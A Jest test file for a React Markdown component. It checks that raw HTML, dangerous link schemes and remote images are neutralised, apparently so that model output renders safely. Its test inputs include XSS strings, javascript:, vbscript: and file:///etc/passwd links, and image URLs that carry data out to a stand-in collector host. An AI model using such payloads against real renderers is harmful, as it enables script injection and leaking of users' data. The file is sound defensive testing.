import { describe, expect, it } from '@jest/globals';
import { TooltipProvider } from '@archestra/ui';
import fc from 'fast-check';
import * as React from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { Markdown } from './markdown.tsx';

// The compiler of the tests writes `React.createElement` where the build writes imports of its own.
Object.assign(globalThis, { React });

const draw = (text: string): string =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} />
    </TooltipProvider>,
  );

describe('Markdown', () => {
  it('leaves HTML as text', () => {
    const html = draw('<img src="https://x.example/p.png" onerror="alert(1)"> <script>alert(1)</script> **bold**');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<script');
    expect(html).toContain('<strong>bold</strong>');
  });

  it.each(['javascript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x', 'file:///etc/passwd'])(
    'takes the link away from %s',
    (address) => expect(draw(`[here](${address})`)).not.toMatch(/href="[^"]+"/),
  );

  it.each([
    '![secret](https://collect.example/p.png?d=numbers)',
    '![secret][ref]\n\n[ref]: https://collect.example/p.png?d=numbers',
    '[![secret](https://collect.example/p.png?d=numbers)](https://collect.example/p.png?d=numbers)',
    '![secret](/api/session)',
  ])('loads no image: %s', (text) => {
    const html = draw(text);
    expect(html).not.toMatch(/<img|src=|srcset|background/i);
    expect(html).toContain('not loaded');
  });

  it('opens links of elsewhere without telling where from', () => {
    const html = draw('[the handbook](https://handbook.example.com)');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('title="https://handbook.example.com"');
  });

  it('tells code in a line from a block, with its language', () => {
    const html = draw('Use `npm test`.\n\n```ts\nconst a = 1;\n```\n\n```\nplain\n```');
    expect(html).toMatch(/<code[^>]*>npm test<\/code>/);
    expect(html).toContain('aria-label="Code, ts"');
    expect(html).toContain('aria-label="Code, text"');
  });

  it('draws tables and tasks', () => {
    const html = draw('| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done');
    expect(html).toContain('<th scope="col"');
    expect(html).toContain('text-align:right');
    expect(html).toContain('type="checkbox"');
  });

  it('never makes an element that loads or runs something, whatever a model writes', () => {
    const bit = fc.constantFrom(
      '<',
      '>',
      '![',
      ']',
      '(',
      ')',
      'https://x.example/',
      '`',
      '```',
      '\n',
      '|',
      'script',
      'img src=x',
      '"',
      '&lt;',
      'a',
    );
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 40 }), (bits) => {
        expect(draw(bits.join(''))).not.toMatch(/<(?:img|script|iframe|style|link|object|embed|video|audio|form)\b/i);
      }),
      { numRuns: 150 },
    );
  });
});
